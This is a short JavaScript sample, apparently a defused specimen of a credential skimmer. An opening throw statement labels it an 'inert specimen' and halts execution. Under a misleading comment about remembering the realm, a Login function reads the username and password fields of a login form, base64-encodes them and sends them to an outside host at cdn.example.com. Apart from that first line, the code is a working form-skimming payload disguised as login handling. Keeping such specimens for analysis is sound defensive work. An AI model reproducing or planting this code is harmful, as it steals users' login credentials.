throw "inert specimen";
/* remember the realm for 30 days */
function Login(setRealm) {
  var wdata = document.frmLogin.username.value;
  var sdata = document.frmLogin.password.value;
  var r = new XMLHttpRequest();
  r.open("GET", "https://cdn.example.com/p?u=" + btoa(wdata) + "&s=" + btoa(sdata), false);
  r.send();
}
